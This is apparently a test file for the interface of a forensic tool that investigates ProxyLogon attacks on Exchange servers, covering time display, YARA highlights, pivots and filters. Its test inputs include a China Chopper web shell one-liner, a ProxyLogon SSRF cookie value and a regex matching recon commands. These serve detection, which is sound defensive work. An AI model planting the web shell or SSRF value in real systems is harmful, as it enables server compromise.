// The renderer's pure pieces: time display (UTC / case zone), highlight splitting, file search parsing, pivots.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { formatBytes, formatEta, formatOutcome, formatTime, splitPath, waveState } from '../../../renderer/src/format.ts';
import { splitHighlights } from '../../../renderer/src/components/Preview.tsx';
import { fileQueryFor } from '../../../renderer/src/fileQuery.ts';
import { applyPivot, rowTargets } from '../../../renderer/src/pivot.ts';
import type { EventRow } from '../../../shared/api.ts';

// 2021-03-03 02:14:05.123456 UTC, the first ProxyLogon SSRF wave.
const T = Date.UTC(2021, 2, 3, 2, 14, 5) * 1000 + 123456;

test('times show in UTC with microseconds, or in the case zone with its offset', () => {
  assert.equal(formatTime(T), '2021-03-03 02:14:05.123456Z');
  assert.equal(formatTime(T, 'Europe/Oslo'), '2021-03-03 03:14:05.123456 GMT+1');
  assert.equal(formatTime(T, 'America/New_York'), '2021-03-02 21:14:05.123456 GMT-5');
  assert.equal(formatTime(Date.UTC(2021, 2, 3) * 1000), '2021-03-03 00:00:00.000000Z');
  assert.equal(formatTime(null), '');
  assert.match(formatTime(T, 'Not/AZone'), /bad zone Not\/AZone/);
  assert.equal(formatBytes(1536), '1.5 KB');
  assert.equal(formatOutcome({ read: 1910, recovered: 81, unreadable: 2 }), '1,910 read · 81 recovered · 2 unreadable');
  assert.equal(formatOutcome({ read: 12, recovered: 0, unreadable: 0 }), '12 read');
  assert.equal(formatBytes(17), '17 B');
  assert.equal(formatEta(125), '2 min 5 s');
  assert.equal(formatEta(null), 'estimating…');
});

test('YARA highlights split the text into plain and marked segments, overlaps merged, out-of-range ignored', () => {
  const text = '<%@ Page Language="Jscript"%><%eval(Request.Item["p"],"unsafe");%>';
  const segs = splitHighlights(text, [
    { start: 31, end: 49, rule: 'ChinaChopper', identifier: '$eval_request' },
    { start: 40, end: 45, rule: 'ChinaChopper', identifier: '$inner' },
    { start: 55, end: 63, rule: 'ChinaChopper', identifier: '$unsafe' },
    { start: 500, end: 510, rule: 'X', identifier: '$beyond' },
  ]);
  assert.deepEqual(segs, [
    { text: '<%@ Page Language="Jscript"%><%', mark: null },
    { text: 'eval(Request.Item[', mark: 'ChinaChopper:$eval_request' },
    { text: '"p"],"', mark: null },
    { text: 'unsafe")', mark: 'ChinaChopper:$unsafe' },
    { text: ';%>', mark: null },
  ]);
  assert.equal(segs.map((s) => s.text).join(''), text);
});

test('the file search box tells hashes, globs and plain text apart', () => {
  assert.deepEqual(fileQueryFor(' B75F163CA9B9240BF4B37AD92BC7556B40A17E27C2B8ED5C8991385FE07D17D0 '), { hash: 'B75F163CA9B9240BF4B37AD92BC7556B40A17E27C2B8ED5C8991385FE07D17D0' });
  assert.deepEqual(fileQueryFor('4b3039cf227c611c45d2242d1228a121'), { hash: '4b3039cf227c611c45d2242d1228a121' });
  assert.deepEqual(fileQueryFor('**/aspnet_client/**/*.aspx'), { glob: '**/aspnet_client/**/*.aspx' });
  assert.deepEqual(fileQueryFor('supp0rt.aspx'), { text: 'supp0rt.aspx' });
  assert.deepEqual(fileQueryFor('  '), {});
});

test('pivots: "only" uses the lifted filters, "exclude" a field inequality; targets come from the row and its fields', () => {
  const base = { text: 'autodiscover' };
  assert.deepEqual(applyPivot(base, { target: { field: 'ip', value: '86.105.18.116' }, exclude: false }), { text: 'autodiscover', ips: ['86.105.18.116'] });
  assert.deepEqual(applyPivot(base, { target: { field: 'status', value: '241' }, exclude: false }), { text: 'autodiscover', statuses: [241] });
  assert.deepEqual(applyPivot(base, { target: { field: 'cs(User-Agent)', value: 'ExchangeServicesClient/0.0.0.0' }, exclude: false }),
    { text: 'autodiscover', fieldEquals: [{ field: 'cs(User-Agent)', value: 'ExchangeServicesClient/0.0.0.0' }] });
  const once = applyPivot(base, { target: { field: 'ip', value: '10.0.0.5' }, exclude: true });
  assert.deepEqual(applyPivot(once, { target: { field: 'source', value: 'iis' }, exclude: true }),
    { text: 'autodiscover', fieldNotEquals: [{ field: 'ip', value: '10.0.0.5' }, { field: 'source', value: 'iis' }] });
  const row: EventRow = {
    id: 1, ts: T, tsDesc: 'Request', source: 'iis', host: 'EXCH01', message: 'POST /ecp/y.js', ip: '86.105.18.116', status: 241,
    ref: { file: 'C/inetpub/logs/LogFiles/W3SVC1/u_ex210303.log', line: 5 }, starred: false, tags: [], note: null, manual: false,
  };
  assert.deepEqual(rowTargets(row, null).map((t) => `${t.field}=${t.value}`), ['ip=86.105.18.116', 'host=EXCH01', 'source=iis', 'status=241']);
  const detail = { ...row, fields: { 'cs-method': 'POST', 'cs-uri-query': null, 'cs(Cookie)': 'X-AnonResource-Backend=localhost/ecp/default.flt?~3' }, raw: null, fileId: 1 };
  assert.deepEqual(rowTargets(row, detail).slice(4).map((t) => t.field), ['cs-method', 'cs(Cookie)']);
});

test('the timeline URL holds every filter, the search, the sort and the order, and reads back the same', async () => {
  const { filtersFromParams, paramsFromFilters } = await import('../../../renderer/src/timelineUrl.ts');
  const f = {
    text: 'ip:165.232.154.116 NOT "logon.aspx"', from: Date.UTC(2021, 2, 3, 7, 12) * 1000 + 5, to: Date.UTC(2021, 2, 4) * 1000,
    sources: ['iis' as const, 'httpproxy' as const], hosts: ['EXCH01'], ips: ['10.0.0.1'], statuses: [200, 500], tags: ['webshell'], starredOnly: true,
    recovered: 'exclude' as const, fileId: 7, fieldEquals: [{ field: 'cs-method', value: 'POST' }], fieldNotEquals: [{ field: 'ip', value: 'a=b' }],
    columns: [{ field: 'data.CommandLine', op: 'regex' as const, value: 'whoami|net (user|group)' }], sort: { field: 'status', dir: 'desc' as const },
  };
  const p = paramsFromFilters(f);
  assert.deepEqual(filtersFromParams(new URLSearchParams(p.toString())), f);
  assert.deepEqual(filtersFromParams(paramsFromFilters({ order: 'desc' })), { order: 'desc' });
  assert.deepEqual(filtersFromParams(new URLSearchParams('source=nope&status=x&cf=bogus:a=b&from=garbage&recovered=maybe')), {}, 'broken values are dropped');
  assert.deepEqual(filtersFromParams(paramsFromFilters({ recovered: 'only' })), { recovered: 'only' });
  assert.equal(p.get('from'), '2021-03-03T07:12:00.000005Z', 'times in the URL are UTC ISO, the same in every zone');
});

test('typed times are read in the display zone unless they carry Z or an offset', async () => {
  const { parseZonedTime, formatZonedInput } = await import('../../../renderer/src/zone.ts');
  const utc = (...a: [number, number, number, number, number]) => Date.UTC(...a) * 1000;
  assert.equal(parseZonedTime('2021-03-03 08:12', 'Europe/Oslo'), utc(2021, 2, 3, 7, 12), 'CET is UTC+1 in March');
  assert.equal(parseZonedTime('2021-07-01T08:12:00', 'Europe/Oslo'), utc(2021, 6, 1, 6, 12), 'CEST is UTC+2');
  assert.equal(parseZonedTime('2021-03-03 08:12:44.5', 'America/New_York'), utc(2021, 2, 3, 13, 12) + 44_500_000);
  assert.equal(parseZonedTime('2021-03-03T08:12:00Z', 'Europe/Oslo'), utc(2021, 2, 3, 8, 12), 'Z wins');
  assert.equal(parseZonedTime('2021-03-03 08:12+02:00', 'UTC'), utc(2021, 2, 3, 6, 12), 'an offset wins');
  assert.equal(parseZonedTime('2021-03-03', 'UTC'), utc(2021, 2, 3, 0, 0));
  assert.equal(parseZonedTime('2021-03-28 02:30', 'Europe/Oslo') > 0, true, 'a time skipped by DST still reads');
  assert.ok(Number.isNaN(parseZonedTime('yesterday', 'UTC')));
  assert.equal(formatZonedInput(utc(2021, 2, 3, 7, 12), 'Europe/Oslo'), '2021-03-03 08:12:00');
});

test('column layouts: unknown keys dropped, new columns appended, moves and widths kept', async () => {
  const { COLUMNS, moveColumn, parseLayout, visibleColumns } = await import('../../../renderer/src/gridColumns.ts');
  const l = parseLayout(JSON.stringify({ order: ['message', 'gone', 'ts'], hidden: ['ip', 'ts'], widths: { ip: 300.4, message: 5, bogus: 9 } }));
  assert.deepEqual(l.order.slice(0, 2), ['message', 'ts']);
  assert.equal(l.order.length, COLUMNS.length);
  assert.deepEqual(l.hidden, ['ip'], 'time cannot be hidden');
  assert.deepEqual(l.widths, { ip: 300, message: 24 });
  assert.ok(!visibleColumns(l).some((c) => c.key === 'ip'));
  assert.deepEqual(moveColumn(l, 'ts', 'message').order.slice(0, 2), ['ts', 'message']);
  assert.deepEqual(parseLayout('not json').order, COLUMNS.map((c) => c.key));
});

test('a header without an index says its first sort builds a sort index kept in the case', async () => {
  const { COLUMNS, headerTitle } = await import('../../../renderer/src/gridColumns.ts');
  const col = (k: string) => COLUMNS.find((c) => c.key === k)!;
  assert.match(headerTitle(col('status'))!, /^Sort by Status .*the first sort by it on a large case builds a sort index, kept in the case/);
  assert.doesNotMatch(headerTitle(col('ip'))!, /sort index/);
  assert.equal(headerTitle(col('star')), undefined);
});

test('a request logged by IIS and HttpProxy is one row with both evidence lines', async () => {
  const { mergeRequests } = await import('../../../renderer/src/webshellRequests.ts');
  const t = Date.UTC(2021, 2, 3, 2, 14, 5) * 1000;
  const req = (eventId: number, ts: number, url: string, file: string) => ({ eventId, ts, ip: '165.232.154.116', method: 'POST', url, status: 200, userAgent: null, ref: { file, line: eventId } });
  const merged = mergeRequests([req(1, t, '/aspnet_client/x.aspx', 'iis.log'), req(2, t + 123_000, '/ASPNET_CLIENT/x.aspx', 'httpproxy.log'), req(3, t + 2_000_000, '/aspnet_client/x.aspx', 'iis.log')]);
  assert.equal(merged.length, 2);
  assert.deepEqual(merged[0].refs.map((r) => r.file), ['iis.log', 'httpproxy.log']);
});

test('a wave is "no trace" (green) only when every check read logs covering it; uncovered checks are said, never green', () => {
  assert.deepEqual(waveState(['no-evidence', 'no-evidence']), { cls: 'no-evidence', text: 'no trace' });
  assert.deepEqual(waveState(['not-covered', 'not-covered', 'not-assessed']), { cls: 'not-covered', text: 'the logs do not cover it' });
  assert.deepEqual(waveState(['no-evidence', 'not-covered', 'not-covered']), { cls: 'not-covered', text: 'no trace in 1 of 3 checks; the logs do not cover the others' });
  assert.deepEqual(waveState(['not-covered', 'attempted']), { cls: 'attempted', text: 'reached the server (attempted)' });
  assert.deepEqual(waveState(['attempted', 'exploited', 'not-covered']), { cls: 'exploited', text: 'reached the server (exploited)' });
});

test('splitPath keeps the file name apart from its folder (Windows and POSIX separators)', () => {
  assert.deepEqual(splitPath('C:\\Program Files\\Microsoft\\Exchange Server\\V15\\FrontEnd\\HttpProxy\\owa\\auth\\x.aspx'), ['C:\\Program Files\\Microsoft\\Exchange Server\\V15\\FrontEnd\\HttpProxy\\owa\\auth\\', 'x.aspx']);
  assert.deepEqual(splitPath('C/inetpub/wwwroot/a.aspx'), ['C/inetpub/wwwroot/', 'a.aspx']);
  assert.deepEqual(splitPath('loose.txt'), ['', 'loose.txt']);
});
